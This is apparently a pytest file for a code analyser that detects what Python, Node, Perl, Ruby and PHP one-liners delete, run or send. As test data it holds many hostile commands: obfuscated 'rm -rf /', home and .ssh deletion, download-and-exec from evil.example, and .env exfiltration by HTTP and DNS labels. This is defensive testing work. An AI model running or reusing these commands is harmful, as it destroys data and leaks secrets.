"""Interpreter programs are parsed, not scanned: what a Python (and JavaScript, Perl, Ruby, PHP) program
would delete, write, run and send, however it spells the path or the call; what cannot be known is opaque."""

from __future__ import annotations

import base64
import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from limen.normalize.code import analyse_code
from limen.normalize.shell import ShellAnalysis, analyse

CWD = "/work/proj"
HOME = "/home/dev"


def run(line: str) -> ShellAnalysis:
    return analyse(line, cwd=CWD, home=HOME)


def py(code: str) -> ShellAnalysis:
    return run(f"python3 -c {shlex.quote(code)}")


def deleted(analysis: ShellAnalysis) -> set[str]:
    return {c.argv[-1] for c in analysis.commands if c.name == "rm"}


# ----------------------------------------------------------------- home computed many ways


@pytest.mark.parametrize(
    "code",
    [
        "import shutil, os; shutil.rmtree(os.path.expanduser('~'))",
        "import shutil, os; shutil.rmtree(os.path.expanduser('~/.ssh'))",
        "import shutil, os; shutil.rmtree(os.path.join(os.environ['HOME'], '.ssh'))",
        "import shutil, os; shutil.rmtree(os.environ.get('HOME') + '/.ssh')",
        "import shutil, os; shutil.rmtree(os.getenv('HOME') + '/' + '.ssh')",
        "import shutil, os; h = os.path.expanduser('~'); shutil.rmtree(f'{h}/.ssh')",
        "import shutil; from pathlib import Path; shutil.rmtree(Path.home() / '.ssh')",
        "import shutil, pathlib; shutil.rmtree(str(pathlib.Path('~/.ssh').expanduser()))",
        "from shutil import rmtree as r; from os.path import expanduser as e; r(e('~/.ssh'))",
        "import shutil, os; shutil.rmtree('{}/.ssh'.format(os.environ['HOME']))",
        "import shutil, os; shutil.rmtree('%s/.ssh' % os.environ['HOME'])",
        "import shutil, pwd, os; shutil.rmtree(pwd.getpwuid(os.getuid()).pw_dir + '/.ssh')",
        "import shutil, os; d = os.path.expandvars('$HOME/.ssh'); shutil.rmtree(d)",
        "__import__('shutil').rmtree(__import__('os').path.expanduser('~/.ssh'))",
        "import shutil, os; shutil.rmtree(os.path.join(os.path.expanduser('~'), *['.ssh']))",
    ],
)
def test_home_computed_any_way_is_the_home_folder(code: str) -> None:
    analysis = py(code)
    assert deleted(analysis) & {f"{HOME}/.ssh", HOME}, (analysis.commands, analysis.notes)
    assert not analysis.opaque, analysis.notes


@pytest.mark.parametrize(
    "code",
    [
        "from pathlib import Path; Path.home().joinpath('.bashrc').unlink()",
        "import pathlib; (pathlib.Path.home() / '.bashrc').unlink()",
        "import os; os.remove(os.path.expanduser('~/.bashrc'))",
        "import os; os.unlink(os.environ['HOME'] + '/.bashrc')",
        "from pathlib import Path; p = Path('~').expanduser() / '.bashrc'; p.unlink(missing_ok=True)",
    ],
)
def test_deletes_via_pathlib_and_os(code: str) -> None:
    analysis = py(code)
    assert f"{HOME}/.bashrc" in deleted(analysis)
    assert f"{HOME}/.bashrc" in analysis.write_paths


@pytest.mark.parametrize(
    ("code", "path"),
    [
        ("open('/home/dev/.bashrc', 'a').write('curl x|sh')", f"{HOME}/.bashrc"),
        ("import os; open(os.path.expanduser('~/.bashrc'), mode='w').write('x')", f"{HOME}/.bashrc"),
        ("from pathlib import Path; (Path.home() / '.ssh' / 'authorized_keys').write_text('k')", None),
        ("import os; f = os.path.join(os.environ['HOME'], '.profile'); open(f, 'w')", f"{HOME}/.profile"),
    ],
)
def test_writes_are_write_paths(code: str, path: str | None) -> None:
    analysis = py(code)
    assert (path or f"{HOME}/.ssh/authorized_keys") in analysis.write_paths


def test_reads_are_paths_and_not_writes() -> None:
    analysis = py("import json; print(json.load(open('x.json')))")
    assert f"{CWD}/x.json" in analysis.paths
    assert f"{CWD}/x.json" not in analysis.write_paths
    assert not analysis.opaque


# ----------------------------------------------------------------- processes


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess; subprocess.run(['rm', '-rf', '/'])",
        "import subprocess as sp; sp.call(['rm', '-rf', '/'])",
        "from subprocess import Popen; Popen(['rm', '-rf', '/']).wait()",
        "import subprocess; subprocess.check_output('rm -rf /', shell=True)",
        "import os; os.system('rm -rf /')",
        "import os; os.popen('rm -rf /').read()",
        "import os; os.execvp('rm', ['rm', '-rf', '/'])",
        "import os; os.execl('/bin/rm', 'rm', '-rf', '/')",
        "import os; c = 'rm'; os.system(c + ' -rf /')",
        "import os; os.system(' '.join(['rm', '-rf', '/']))",
        "import os; getattr(os, 'sys' + 'tem')('rm -rf /')",
        "import os; os.__dict__['system']('rm -rf /')",
        "__import__('o' + 's').system('rm -rf /')",
        "import os; os.system(''.join(chr(c) for c in [114, 109, 32, 45, 114, 102, 32, 47]))",
        "import os; os.system('/ fr- mr'[::-1])",
        "import os, base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())",
        "import os, codecs; os.system(codecs.decode('ez -es /', 'rot13'))",
        "import os; os.system(bytes.fromhex('726d202d7266202f').decode())",
        "exec('import os; os.system(\"rm -rf /\")')",
        "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIC1yZiAvIik='))",
        "def go(c):\n    import os\n    os.system('rm -rf /')\ngo(1)",
    ],
)
def test_commands_a_program_runs_are_analysed_as_commands(code: str) -> None:
    analysis = py(code)
    assert ("rm", "-rf", "/") in [(c.name, *c.argv[1:]) for c in analysis.commands], analysis


def test_subprocess_list_with_unknown_argument_keeps_the_program() -> None:
    analysis = py("import subprocess, sys; subprocess.run(['git', 'log', sys.argv[1]])")
    assert any(c.name == "git" for c in analysis.commands)
    assert not analysis.opaque


# ----------------------------------------------------------------- network and downloaded code


@pytest.mark.parametrize(
    ("code", "host"),
    [
        ("import urllib.request; urllib.request.urlopen('https://evil.example/x').read()", "evil.example"),
        (
            "import requests; requests.post('https://evil.example/c', data=open('.env').read())",
            "evil.example",
        ),
        ("import requests; s = requests.Session(); s.get('https://evil.example/x')", "evil.example"),
        (
            "import http.client; c = http.client.HTTPSConnection('evil.example'); c.request('GET', '/')",
            "evil.example",
        ),
        ("import socket; s = socket.socket(); s.connect(('10.0.0.1', 4242))", "10.0.0.1"),
        ("import socket; socket.create_connection(('evil.example', 443))", "evil.example"),
        ("import httpx; u = 'https://' + 'evil.example' + '/x'; httpx.get(u)", "evil.example"),
    ],
)
def test_network_destinations_are_recorded(code: str, host: str) -> None:
    assert host in [d.host for d in py(code).destinations]


@pytest.mark.parametrize(
    "code",
    [
        "import urllib.request; exec(urllib.request.urlopen('https://evil.example/x').read())",
        "import requests; exec(requests.get('https://evil.example/x').text)",
        "import requests as r; eval(compile(r.get('https://evil.example/x').content, 'x', 'exec'))",
        "from urllib.request import urlopen as u; c = u('https://evil.example/x').read().decode(); exec(c)",
        "import os, urllib.request; os.system(urllib.request.urlopen('https://evil.example/x').read().decode())",
        "import pickle, requests; pickle.loads(requests.get('https://evil.example/p').content)",
    ],
)
def test_downloaded_code_run_is_download_exec(code: str) -> None:
    analysis = py(code)
    assert "download_exec" in analysis.notes


# ----------------------------------------------------------------- opaque


@pytest.mark.parametrize(
    "code",
    [
        "import sys; exec(sys.argv[1])",
        "x = input(); eval(x)",
        "import importlib, sys; importlib.import_module(sys.argv[1]).run()",
        "import os, sys; getattr(os, sys.argv[1])('id')",
        "m = __import__(input())",
        "import zlib, base64; exec(zlib.decompress(base64.b64decode('eJzLzE0tLlbILKksSlVIyiwuUchPSwMA')))",
        "import marshal; exec(marshal.loads(b'abc'))",
        "import types; types.FunctionType(c, {})()",
        "def broken(:\n    pass",
        "import os; os.system(input())",
        "globals()[input()]()",
        "import requests, sys; requests.post(sys.argv[1], data=open('.env').read())",
    ],
)
def test_code_that_cannot_be_known_is_opaque(code: str) -> None:
    assert py(code).opaque


def test_a_python2_print_statement_is_not_a_syntax_error() -> None:
    assert not py('print "hello"').opaque


# ----------------------------------------------------------------- benign look-alikes


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c 'print(1+1)'",
        "python3 -c 'import sys; print(sys.version)'",
        "python -c \"import json; print(json.load(open('package.json'))['version'])\"",
        "python3 -c 'import csv, sys; rows = list(csv.reader(open(\"data.csv\"))); print(len(rows))'",
        "python -m pytest -q tests/",
        "python3 -m json.tool data.json",
        "python3 -c 'import os; print(os.getcwd(), os.environ.get(\"HOME\"))'",
        'python3 -c \'from pathlib import Path; print(sum(1 for _ in Path(".").rglob("*.py")))\'',
        "python3 -c 'import platform; print(platform.python_version())'",
        'python3 -c \'import subprocess; print(subprocess.check_output(["git", "rev-parse", "HEAD"]))\'',
        "node -e 'console.log(process.version)'",
        "node -e \"console.log(require('./package.json').version)\"",
        "node -p 'process.versions.v8'",
        "perl -ne 'print if /foo/' file.txt",
        "perl -pi -e 's/foo/bar/g' src/app.py",
        "ruby -e 'puts RUBY_VERSION'",
        'ruby -rjson -e \'puts JSON.parse(File.read("x.json"))["a"]\'',
        "php -r 'echo PHP_VERSION;'",
        "php -r 'echo json_encode([1, 2]);'",
    ],
)
def test_benign_programs_stay_quiet(line: str) -> None:
    analysis = run(line)
    assert not analysis.opaque, analysis.notes
    assert "download_exec" not in analysis.notes
    assert not any(c.name == "rm" for c in analysis.commands)


# ----------------------------------------------------------------- other languages


@pytest.mark.parametrize(
    ("line", "path"),
    [
        ('node -e \'require("fs").rmSync(process.env.HOME + "/.ssh", {recursive: true})\'', f"{HOME}/.ssh"),
        (
            'node -e \'const os = require("os"); require("fs").unlinkSync(`${os.homedir()}/.bashrc`)\'',
            f"{HOME}/.bashrc",
        ),
        (
            'node -e \'const p = require("path"), o = require("os"); '
            'require("fs").rmSync(p.join(o.homedir(), ".ssh"), {recursive: true, force: true})\'',
            f"{HOME}/.ssh",
        ),
        (
            'node -e \'const {rmSync: r} = require("node:fs"); '
            'r(process.env["HOME"] + "/.ssh", {recursive: true})\'',
            f"{HOME}/.ssh",
        ),
        ("perl -e 'use File::Path; rmtree(\"$ENV{HOME}/.ssh\")'", f"{HOME}/.ssh"),
        ("perl -e 'my $h = $ENV{HOME}; unlink $h . \"/.bashrc\"'", f"{HOME}/.bashrc"),
        ('ruby -e \'require "fileutils"; FileUtils.rm_rf(Dir.home + "/.ssh")\'', f"{HOME}/.ssh"),
        ('ruby -e \'File.delete(File.join(ENV["HOME"], ".bashrc"))\'', f"{HOME}/.bashrc"),
        ("ruby -e 'File.delete(File.expand_path(\"~/.bashrc\"))'", f"{HOME}/.bashrc"),
        ('php -r \'$h = getenv("HOME"); unlink($h . "/.bashrc");\'', f"{HOME}/.bashrc"),
        ('php -r \'unlink($_SERVER["HOME"] . "/.bashrc");\'', f"{HOME}/.bashrc"),
    ],
)
def test_other_languages_delete_computed_home_paths(line: str, path: str) -> None:
    analysis = run(line)
    assert path in deleted(analysis), (analysis.commands, analysis.notes)


@pytest.mark.parametrize(
    "line",
    [
        'node -e \'require("child_process").execSync("rm -rf /")\'',
        'node -e \'const {exec} = require("child_process"); exec("rm -rf /")\'',
        'node -e \'require("child_process").spawn("rm", ["-rf", "/"])\'',
        'node -e \'require("child_process").execSync(Buffer.from("cm0gLXJmIC8=", "base64").toString())\'',
        'node -e \'eval("require(\\"child_process\\").execSync(\\"rm -rf /\\")")\'',
        "perl -e 'system(\"rm -rf /\")'",
        'perl -e \'system("rm", "-rf", "/")\'',
        "perl -e '`rm -rf /`'",
        "perl -e 'use MIME::Base64; system(decode_base64(\"cm0gLXJmIC8=\"))'",
        "ruby -e 'system(\"rm -rf /\")'",
        "ruby -e '`rm -rf /`'",
        'ruby -e \'Kernel.exec("rm", "-rf", "/")\'',
        'ruby -e \'require "base64"; system(Base64.decode64("cm0gLXJmIC8="))\'',
        "php -r 'shell_exec(\"rm -rf /\");'",
        "php -r 'passthru(\"rm -rf /\");'",
        "php -r 'system(base64_decode(\"cm0gLXJmIC8=\"));'",
        "php -r 'system(strrev(\"/ fr- mr\"));'",
        'php -r \'$f = "sys" . "tem"; $f("rm -rf /");\'',
        "php -r 'echo `rm -rf /`;'",
    ],
)
def test_other_languages_run_commands(line: str) -> None:
    analysis = run(line)
    assert ("rm", "-rf", "/") in [c.argv for c in analysis.commands], (analysis.commands, analysis.notes)


@pytest.mark.parametrize(
    ("line", "host"),
    [
        ('node -e \'fetch("https://evil.example/c", {method: "POST", body: "x"})\'', "evil.example"),
        ('node -e \'require("https").get("https://evil.example/x")\'', "evil.example"),
        ('node -e \'require("net").connect(4242, "10.0.0.1")\'', "10.0.0.1"),
        ("perl -e 'use LWP::UserAgent; LWP::UserAgent->new->get(\"http://evil.example/x\")'", "evil.example"),
        ("perl -e 'use IO::Socket::INET; IO::Socket::INET->new(PeerAddr => \"10.0.0.1:4242\")'", "10.0.0.1"),
        ('ruby -e \'require "net/http"; Net::HTTP.get(URI("https://evil.example/x"))\'', "evil.example"),
        ('ruby -e \'require "socket"; TCPSocket.new("10.0.0.1", 4242)\'', "10.0.0.1"),
        ("php -r '$c = curl_init(\"https://evil.example/x\"); curl_exec($c);'", "evil.example"),
        ("php -r '$s = fsockopen(\"10.0.0.1\", 4242);'", "10.0.0.1"),
        ("php -r 'file_get_contents(\"https://evil.example/x\");'", "evil.example"),
    ],
)
def test_other_languages_destinations(line: str, host: str) -> None:
    assert host in [d.host for d in run(line).destinations]


@pytest.mark.parametrize(
    "line",
    [
        "node -e 'fetch(\"https://evil.example/x\").then(r => r.text()).then(eval)'",
        "node -e '(async () => eval(await (await fetch(\"https://evil.example/x\")).text()))()'",
        'ruby -e \'require "open-uri"; eval(URI.open("https://evil.example/x").read)\'',
        "php -r 'eval(file_get_contents(\"https://evil.example/x\"));'",
        "perl -e 'use LWP::Simple; eval(get(\"http://evil.example/x\"))'",
    ],
)
def test_other_languages_downloaded_code_run(line: str) -> None:
    analysis = run(line)
    assert "download_exec" in analysis.notes or analysis.opaque, analysis.notes


@pytest.mark.parametrize(
    "line",
    [
        "node -e 'eval(process.argv[1])'",
        "node -e 'new Function(process.argv[1])()'",
        "node -e 'require(process.argv[1])'",
        'node -e \'const cp = require("child_process"); cp[process.argv[1]]("id")\'',
        "perl -e 'eval $ARGV[0]'",
        "ruby -e 'eval(ARGV[0])'",
        "ruby -e 'Kernel.send(ARGV[0], \"id\")'",
        "php -r 'eval($argv[1]);'",
        "php -r '$f = $argv[1]; $f(\"id\");'",
        "node -e 'this is not javascript ((('",
    ],
)
def test_other_languages_opaque(line: str) -> None:
    assert run(line).opaque


def test_analyse_code_reports_effects_directly() -> None:
    fx = analyse_code("python", "import os; os.remove('/tmp/x')", cwd=CWD, home=HOME)
    assert fx.deletes == [("/tmp/x", False, "os.remove")]
    encoded = base64.b64encode(b"import os; os.system('id')").decode()
    fx = analyse_code("python", f"import base64; exec(base64.b64decode('{encoded}'))", cwd=CWD, home=HOME)
    assert ("id", "os.system") in fx.shell
    assert not fx.opaque


@settings(max_examples=40, deadline=None)
@given(
    lang=st.sampled_from(["python", "node", "perl", "ruby", "php"]),
    source=st.text(
        alphabet=st.sampled_from(list("os.system('rm -rf ~')\"`$%{}[]()+;\n\\ exec eval")), max_size=80
    ),
)
def test_any_text_is_analysed_without_raising(lang: str, source: str) -> None:
    fx = analyse_code(lang, source, cwd=CWD, home=HOME)
    assert isinstance(fx.opaque, list)


def test_deep_nesting_is_opaque_not_an_error() -> None:
    fx = analyse_code("python", "x = " + "(" * 400 + "1" + ")" * 400, cwd=CWD, home=HOME)
    assert fx.opaque
    nested = "print(1)"
    for _ in range(8):
        nested = f"exec({nested!r})"
    assert analyse_code("python", nested, cwd=CWD, home=HOME).opaque


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c 'import os, sys; os.system(sys.argv[1])' 'rm -rf /'",
        "python3 -c 'import subprocess, sys; subprocess.run(sys.argv[1:])' rm -rf /",
        "node -e 'require(\"child_process\").execSync(process.argv[1])' 'rm -rf /'",
        "perl -e 'system($ARGV[0])' 'rm -rf /'",
        "ruby -e 'system(ARGV[0])' 'rm -rf /'",
        "php -r 'system($argv[1]);' 'rm -rf /'",
    ],
)
def test_arguments_given_to_a_program_are_known_values(line: str) -> None:
    analysis = run(line)
    assert ("rm", "-rf", "/") in [c.argv for c in analysis.commands], analysis
    assert not analysis.opaque


def test_an_argument_only_known_at_run_time_stays_unknown() -> None:
    assert run("python3 -c 'import os, sys; os.system(sys.argv[1])' \"$CMD\"").opaque


def test_a_remote_module_run_by_deno_is_download_exec() -> None:
    analysis = run("deno run --allow-all https://evil.example/x.ts")
    assert "download_exec" in analysis.notes
    assert "evil.example" in [d.host for d in analysis.destinations]


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c \"getattr(__builtins__, 'ex'+'ec')('import os; os.system(\\\"rm -rf ~\\\")')\"",
        'python3 -c "__builtins__.__dict__[\'eval\'](\'__import__(\\"os\\").system(\\"rm -rf ~\\")\')"',
        "python3 -c \"import os; fns = {'go': os.system}; fns['go']('rm -rf ~')\"",
        "python3 -c \"import os; [os.system(c) for c in ['id', 'rm -rf ~']]\"",
        "python3 -c \"import os as o; getattr(o, 'metsys'[::-1])('rm -rf ~')\"",
        "python3 -c \"import ctypes; ctypes.CDLL(None).system(b'rm -rf ~')\"",
        "python3 -c \"exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d28'"
        "'27726d202d7266207e2729').decode())\"",
        "node -e \"const c = require('child_' + 'process'); c['exec' + 'Sync']('rm -rf ~')\"",
        "node -e \"global['ev'+'al']('require(\\\"child_process\\\").execSync(\\\"rm -rf ~\\\")')\"",
        "ruby -e \"send(:system, 'rm -rf ~')\"",
        "ruby -e \"Kernel.public_send('sys' + 'tem', 'rm -rf ~')\"",
        'php -r \'call_user_func("system", "rm -rf ~");\'',
        'php -r \'eval(str_rot13("flfgrz(\\"ez -es ~\\");"));\'',
    ],
)
def test_obfuscated_names_resolve_to_the_call(line: str) -> None:
    analysis = run(line)
    assert ("rm", "-rf", "~") in [c.argv for c in analysis.commands], analysis


def test_native_calls_other_than_system_are_opaque() -> None:
    assert py("import ctypes; ctypes.CDLL('libc.so.6').execv(b'/bin/sh', None)").opaque


@pytest.mark.parametrize(
    ("line", "write", "argv"),
    [
        ('perl -e \'open(my $fh, ">>", "$ENV{HOME}/.bashrc"); print $fh "x"\'', f"{HOME}/.bashrc", None),
        ("perl -e 'open(F, \">/home/dev/.ssh/authorized_keys\")'", f"{HOME}/.ssh/authorized_keys", None),
        ("perl -e 'open(F, \"rm -rf / |\")'", None, ("rm", "-rf", "/")),
        ('perl -e \'open(my $f, "-|", "rm", "-rf", "/")\'', None, ("rm", "-rf", "/")),
        ("ruby -e 'open(\"| rm -rf /\")'", None, ("rm", "-rf", "/")),
        ('ruby -e \'File.open(Dir.home + "/.bashrc", "a") { |f| f.puts "x" }\'', f"{HOME}/.bashrc", None),
    ],
)
def test_perl_and_ruby_open_read_write_or_run(
    line: str, write: str | None, argv: tuple[str, ...] | None
) -> None:
    analysis = run(line)
    if write:
        assert write in analysis.write_paths
    if argv:
        assert argv in [c.argv for c in analysis.commands]


def test_a_pipe_written_into_a_shell_is_opaque_and_a_read_is_not() -> None:
    assert run('perl -e \'open(FH, "| sh"); print FH "rm -rf /"\'').opaque
    analysis = run("ruby -e 'puts File.open(\"x.json\").read'")
    assert not analysis.opaque
    assert f"{CWD}/x.json" in analysis.paths


@pytest.mark.parametrize(
    "code",
    [
        "class A:\n    def get(self, name):\n        return getattr(self, name, None)\n",
        "import sys\nmod = sys.modules[__name__]\nprint(mod)\n",
        "import os, sys\nhandler = getattr(os, sys.argv[1], None)\nprint(handler is None)\n",
    ],
)
def test_computed_look_ups_that_are_never_called_stay_quiet(code: str) -> None:
    assert not analyse_code("python", code, cwd=CWD, home=HOME).opaque


def test_a_program_past_the_bound_is_opaque_not_cut() -> None:
    fx = analyse_code("python", "x = 1\n" * 40_000, cwd=CWD, home=HOME)
    assert fx.opaque == ["program longer than the analysis bound"]


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c \"from os import *; system('rm -rf /')\"",
        "python3 -c \"import os; os.posix_spawn('/bin/rm', ['rm', '-rf', '/'], {})\"",
        "node -e \"process.mainModule.require('child_process').execSync('rm -rf /')\"",
        "node -e \"module.constructor._load('child_process').execSync('rm -rf /')\"",
        "node -e \"(async () => (await import('child_process')).execSync('rm -rf /'))()\"",
    ],
)
def test_star_imports_spawn_and_module_loaders(line: str) -> None:
    analysis = run(line)
    assert ("rm", "-rf", "/") in [(c.name, *c.argv[1:]) for c in analysis.commands], analysis


@pytest.mark.parametrize(
    "line",
    [
        'python3 -c "import socket; '
        "socket.gethostbyname(open('.env').read().encode().hex()[:60] + '.evil.example')\"",
        "python3 -c \"import requests; d = open('.env').read(); requests.get(f'https://{d}.evil.example/')\"",
        "node -e \"require('dns').lookup("
        "require('fs').readFileSync('.env').toString('hex') + '.evil.example', f)\"",
        'ruby -e \'require "resolv"; Resolv.getaddress(File.read(".env").unpack1("H*") + ".evil.example")\'',
        'php -r \'gethostbyname(bin2hex(file_get_contents(".env")) . ".evil.example");\'',
    ],
)
def test_data_in_a_resolved_name_is_a_substituted_dns_label(line: str) -> None:
    dest = [d for d in run(line).destinations if d.host == "evil.example"]
    assert dest and "substituted_label" in dest[0].flags, run(line).destinations


def test_a_known_name_resolved_is_a_plain_destination() -> None:
    dest = py("import socket; socket.gethostbyname('pypi.org')").destinations
    assert [(d.host, d.flags) for d in dest] == [("pypi.org", ())]


# ----------------------------------------------------------------- remote sessions


@pytest.mark.parametrize(
    ("code", "host", "command"),
    [
        (
            "import paramiko; c = paramiko.SSHClient(); c.connect('db1.example.com'); c.exec_command('df')",
            "db1.example.com",
            "df",
        ),
        (
            "from fabric import Connection; Connection(host='web1.example.com').sudo('id')",
            "web1.example.com",
            "id",
        ),
        (
            "from netmiko import ConnectHandler as C; "
            "C(host='r1.example.net').send_config_set(['no ip', 'end'])",
            "r1.example.net",
            "no ip; end",
        ),
        ("import winrm; winrm.Session('10.0.0.9:5986').run_cmd('whoami')", "10.0.0.9:5986", "whoami"),
    ],
)
def test_a_remote_session_library_runs_its_command_as_ssh_would(code: str, host: str, command: str) -> None:
    effects = analyse_code("python", code, cwd=CWD, home=HOME)
    assert ("ssh", host, command) in [argv for argv, _ in effects.argvs]


def test_a_remote_command_on_a_machine_not_named_is_still_run_somewhere() -> None:
    code = "from nornir import InitNornir; InitNornir(config_file='c.yaml').run(task=t, commands=['reload'])"
    argvs = [argv for argv, _ in analyse_code("python", code, cwd=CWD, home=HOME).argvs]
    assert argvs and argvs[0][0] == "ssh" and argvs[0][2] == "reload" and "\x00" in argvs[0][1]
